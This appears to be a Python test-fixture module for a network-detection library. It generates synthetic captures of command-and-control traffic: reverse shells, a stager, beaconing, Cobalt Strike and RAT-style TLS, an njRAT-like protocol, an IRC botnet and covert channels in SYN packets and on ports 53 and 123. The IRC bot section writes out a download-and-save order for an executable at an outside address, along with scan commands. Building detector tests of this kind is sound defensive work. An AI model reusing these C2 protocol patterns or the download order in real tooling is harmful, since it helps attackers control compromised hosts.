"""Somebody outside commands a host inside: shells, stagers, trojans, bots, covert ways."""

import base64
import struct
from collections.abc import Iterator
from random import Random
from typing import TYPE_CHECKING

from oddwire.testing.capture import Timed
from oddwire.testing.certificates import certificate, old_tls
from oddwire.testing.packets import ACK, PSH, RST, SYN, URG, mac_of, tcp
from oddwire.testing.scene import ROUTER, Scene
from oddwire.testing.shells import Shell, filler_program, shell
from oddwire.testing.web import fetch, request, response
from oddwire.testing.wire import tagged
from oddwire.testing.wrapping import one_way, since

if TYPE_CHECKING:
    from oddwire.testing.conversations import Step

BEGIN = 1_700_000_000.0
VICTIM, MASTER, SECOND = "192.168.10.107", "45.83.129.60", "185.117.90.14"
OFFICE = ["192.168.10.21", "192.168.10.104", "192.168.10.110", VICTIM]
WEB, INTRUDER = "192.168.10.44", "192.168.10.66"
VICTIM6, MASTER6 = "fd00:10::107", "2a03:b0c0:1::4a1"
SHORT, HOUR = 600.0, 3_600.0


def captures() -> Iterator[tuple[str, list[Timed]]]:
    """Yield each capture."""
    yield "shell-back-4444", _shell(1, "cmd", 4_444)
    yield "shell-back-443-plain", _shell(2, "bash", 443)
    yield "shell-back-without-prompt", _shell(3, "sh", 9_001)
    yield "shell-back-midway-tagged", tagged(since(_shell(4, "powershell", 8_443), BEGIN + 40), 20)
    yield "shell-back-six", _shell_six()
    yield "shell-back-one-direction", list(one_way(_shell(25, "cmd", 8_443), src=VICTIM))
    yield "shell-bound", _bound()
    yield "shell-of-inside-intruder", _inside()
    yield "stager", _stager()
    yield "web-sleep-and-jitter", _web()
    yield "tls-own-certificate", _own_tls()
    yield "async-trojan", _trojan(11, 6_606, "AsyncRAT Server", 0x0301)
    yield "quasar-trojan", _trojan(12, 4_782, "Quasar Server CA", 0x0303, alone=True)
    yield "text-trojan", _text_trojan()
    yield "chat-bot", _chat_bot(14, 6_667)
    yield "chat-bot-odd-port", _chat_bot(15, 8_067)
    yield "posts-to-bare-address", _posts()
    yield "data-in-syn", _in_syn()
    yield "not-dns-on-53", _wrong_protocol(23, 53)
    yield "not-ntp-on-123", _wrong_protocol(24, 123)


def _scene(seed: int, seconds: float = SHORT, pages: int = 6) -> Scene:
    scene = Scene(200 + seed, BEGIN)
    scene.browsing(OFFICE, seconds, every=seconds / pages)
    return scene


def _shell(seed: int, kind: Shell, port: int) -> list[Timed]:
    scene = _scene(seed)
    steps = shell(scene.dice, kind, 22)
    scene.say(VICTIM, MASTER, port, steps, at=BEGIN + 30, rtt=0.06, ending="open")
    return scene.seen()


def _shell_six() -> list[Timed]:
    scene = _scene(5)
    steps = shell(scene.dice, "bash", 15)
    scene.say(VICTIM6, MASTER6, 4_433, steps, at=BEGIN + 30, rtt=0.04)
    far, router = (bytes.fromhex(mac_of(ip).replace(":", "")) for ip in (MASTER6, ROUTER))
    return [(time, frame[:12].replace(far, router) + frame[12:]) for time, frame in scene.seen()]


def _bound() -> list[Timed]:
    """A server inside waits on a port of its own and hands its shell to who comes, from outside."""
    scene = _scene(6)
    steps = shell(scene.dice, "bash", 18, server_types=False)
    scene.say(MASTER, WEB, 31_337, steps, at=BEGIN + 50, rtt=0.05)
    return scene.seen()


def _inside() -> list[Timed]:
    """The intruder sits in the same segment: a workstation gives it its shell."""
    scene = _scene(7)
    steps = shell(scene.dice, "cmd", 18)
    scene.say(VICTIM, INTRUDER, 4_444, steps, at=BEGIN + 50, rtt=0.0006)
    return scene.seen()


def _tlv(dice: Random, size: int) -> bytes:
    """Return a message of a staged agent: a key, and length, kind and values under it."""
    return dice.randbytes(4) + dice.randbytes(28 + size)


def _stager() -> list[Timed]:
    """Right after the connection the server sends a length and so many bytes; then both talk on that line."""
    scene = _scene(8, 900)
    blob = filler_program(scene.dice, 175_686)
    steps: list[Step] = [(0.02, False, struct.pack("<I", len(blob)) + blob)]
    steps.append((0.4, False, _tlv(scene.dice, 340)))
    for turn in range(40):
        steps.append((0.05, True, _tlv(scene.dice, scene.dice.randrange(60, 900))))
        pause = 60.0 if turn > 28 else scene.dice.expovariate(1 / 3)
        steps.append((pause, False, _tlv(scene.dice, 70 + turn % 7 * 16)))
    scene.say(VICTIM, MASTER, 4_444, steps, at=BEGIN + 30, rtt=0.05, ending="open")
    return scene.seen()


def _web() -> list[Timed]:
    """A cookie says who asks; the order comes as the page, the output goes by POST."""
    scene = _scene(9, 2 * HOUR, 12)
    cookie = {"Cookie": base64.b64encode(scene.dice.randbytes(128)).decode()}
    agent = "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; WOW64; Trident/5.0; NP06)"
    for turn, at in enumerate(scene.rounds(60, 2 * HOUR, jitter=0.2)):
        order = scene.dice.randbytes(scene.dice.randrange(48, 400)) if turn % 11 == 7 else b""
        ask = request(MASTER, "/dpixel", agent=agent, more=cookie)
        answer = response(order, kind="application/octet-stream", server="")
        scene.say(VICTIM, MASTER, 80, fetch(ask, answer), at=at, rtt=0.05)
        if order:
            body = scene.dice.randbytes(scene.dice.randrange(200, 9_000))
            ask = request(MASTER, "/submit.php?id=31337", method="POST", agent=agent, body=body)
            scene.say(VICTIM, MASTER, 80, fetch(ask, response()), at=at + 1.2, rtt=0.05)
    return scene.seen()


def _own_tls() -> list[Timed]:
    """The same behind TLS: no name is asked for or said, the certificate is the tool's own."""
    scene = _scene(10, 1.5 * HOUR, 10)
    subject = [("C", "Earth"), ("ST", "Cyberspace"), ("L", "Somewhere"), ("O", "cobaltstrike")]
    subject += [("OU", "AdvancedPenTesting"), ("CN", "Major Cobalt Strike")]
    chain = [certificate(scene.dice, subject)]
    for turn, at in enumerate(scene.rounds(60, 1.5 * HOUR, jitter=0.2)):
        pages = [(0.002, 420, 4_600 if turn % 17 == 9 else 190)]
        scene.say(VICTIM, MASTER, 443, old_tls(scene.dice, pages, chain), at=at, rtt=0.05)
    return scene.seen()


def _trojan(seed: int, port: int, name: str, version: int, *, alone: bool = False) -> list[Timed]:
    """One TLS line on the trojan's own port: who I am, then pings, now and then a picture of the screen."""
    scene = Scene(seed, BEGIN) if alone else _scene(seed, 1_800)
    pages = [(0.1, 640, 40)]
    for turn in range(110):
        pages.append((scene.dice.uniform(10, 15), 60, 45))
        if turn % 30 == 20:
            pages += [(2.0, 0, 70), (0.3, 38_000, 45)]
    chain = [certificate(scene.dice, [("CN", name)], years=(22, 49))]
    steps = old_tls(scene.dice, pages, chain, version=version)
    scene.name(VICTIM, "grey-otter.ddns.net", [MASTER], at=BEGIN + 24.9)
    scene.say(VICTIM, MASTER, port, steps, at=BEGIN + 25, rtt=0.05, ending="open")
    return scene.seen(until=1_800)


def _text_trojan() -> list[Timed]:
    """Fields between bars, each message after its length: who I am, which window is open, orders."""
    scene = _scene(13, 1_200)
    bar = b"|'|'|"
    first = [
        b"ll",
        base64.b64encode(b"HacKed_4A1C"),
        b"DESK-07",
        b"ann",
        b"23-11-14",
        b"",
        b"Win 10 ProSP0 x64",
        b"No",
    ]
    said = [(0.1, True, bar.join([*first, b"0.7d", b"..", b"QmFua2luZw==", b""]))]
    for turn in range(70):
        window = base64.b64encode(scene.dice.choice([b"Inbox - Mail", b"Document1 - Word", b"Start page"]))
        said.append((scene.dice.expovariate(1 / 12), True, bar.join([b"act", window])))
        if turn % 6 == 2:
            said += [(1.0, False, b"P"), (0.1, True, b"P")]
        if turn in {20, 40}:
            said += [
                (2.0, False, bar.join([b"inv", b"a1b2", b"info"])),
                (0.3, True, bar.join([b"pl", b"a1b2", b"0"])),
            ]
    steps = [(pause, mine, str(len(text)).encode() + b"\0" + text) for pause, mine, text in said]
    scene.name(VICTIM, "mrxhost.no-ip.biz", [MASTER], at=BEGIN + 24.9)
    scene.say(VICTIM, MASTER, 1_177, steps, at=BEGIN + 25, rtt=0.08, ending="open")
    return scene.seen(until=1_200)


def _chat_bot(seed: int, port: int) -> list[Timed]:
    """A bot joins a channel with a key; the topic and the master give orders, the bot reports."""
    scene = _scene(seed, 1_800)
    nick = f"[DEU|W10|{scene.dice.randrange(10**6):06d}]"
    hello = f":srv.x 001 {nick} :\r\n:srv.x 376 {nick} :End\r\n"
    joined = (
        f":{nick}!u@h JOIN :#rbt\r\n:srv.x 332 {nick} #rbt :.advscan lsass 100 5 0 -r -s\r\n"
        f":srv.x 353 {nick} @ #rbt :{nick} @boss [USA|W7|119034] [FRA|W10|771542]\r\n"
    )
    steps: list[Step] = [
        (0.02, True, f"PASS s3rv\r\nNICK {nick}\r\nUSER qxwzk 0 0 :{nick}\r\n".encode()),
        (0.1, False, hello.encode()),
        (0.05, True, b"JOIN #rbt hunter\r\n"),
        (0.05, False, joined.encode()),
        (0.3, True, b"PRIVMSG #rbt :[SCAN]: Random scan started on 192.168.x.x:445.\r\n"),
    ]
    for turn in range(18):
        steps += [(90.0, False, b"PING :srv.x\r\n"), (0.01, True, b"PONG srv.x\r\n")]
        if turn % 6 == 4:
            order = b":boss!b@root PRIVMSG #rbt :.download http://185.117.90.14/u.exe c:\\u.exe 1\r\n"
            steps += [(3.0, False, order), (2.0, True, b"PRIVMSG #rbt :[DOWNLOAD]: Downloaded 84.2 KB\r\n")]
    scene.say(VICTIM, MASTER, port, steps, at=BEGIN + 25, rtt=0.09, ending="open")
    return scene.seen()


def _posts() -> list[Timed]:
    """Alone, as a sandbox sees it: a form of sealed fields to a bare address each two minutes."""
    scene = Scene(216, BEGIN)
    for at in scene.rounds(120, HOUR, jitter=0.03):
        body = b"id=4D51-88A0&bn=fix7&data=" + base64.b64encode(scene.dice.randbytes(90))
        ask = request(
            MASTER, "/fre/gate.php", method="POST", agent="Mozilla/4.08 (Charon; Inferno)", body=body
        )
        scene.say(VICTIM, MASTER, 80, fetch(ask, response(b"\x08\0\0\0\0\0\0\0")), at=at, rtt=0.05)
    return scene.seen()


def _in_syn() -> list[Timed]:
    """What is said rides in segments that open nothing: bytes behind a SYN, an urgent pointer as a letter."""
    scene = _scene(22, 1_200)
    at = BEGIN + 40
    for turn in range(200):
        port, number = scene.ports.take(VICTIM), scene.dice.randrange(2**32)
        data = scene.dice.randbytes(scene.dice.randrange(24, 60))
        scene.add([(at, tcp(VICTIM, port, MASTER, 443, SYN, seq=number, data=data))])
        back = tcp(MASTER, 443, VICTIM, port, RST | ACK, seq=0, ack=number + 1 + len(data), window=0)
        scene.add([(at + 0.05, back)])
        if turn % 4 == 0:
            odd = tcp(VICTIM, port, MASTER, 443, PSH | ACK | URG, seq=number + 1, ack=1, data=data)
            scene.add([(at + 0.3, odd)])
        at += scene.dice.uniform(3, 8)
    return scene.seen()


def _wrong_protocol(seed: int, port: int) -> list[Timed]:
    """Datagrams to a port that firewalls leave open, which are not what that port is for."""
    scene = _scene(seed, 1_200)
    at = BEGIN + 40
    for turn in range(220):
        ask = b"\x7f\x01" + struct.pack("!I", turn) + scene.dice.randbytes(scene.dice.randrange(40, 700))
        reply = b"\x7f\x02" + struct.pack("!I", turn) + scene.dice.randbytes(scene.dice.randrange(12, 300))
        scene.exchange((VICTIM, 40_053, MASTER, port), ask, reply, at=at, rtt=0.06)
        at += scene.dice.expovariate(1 / 4) + 0.3
    return scene.seen()
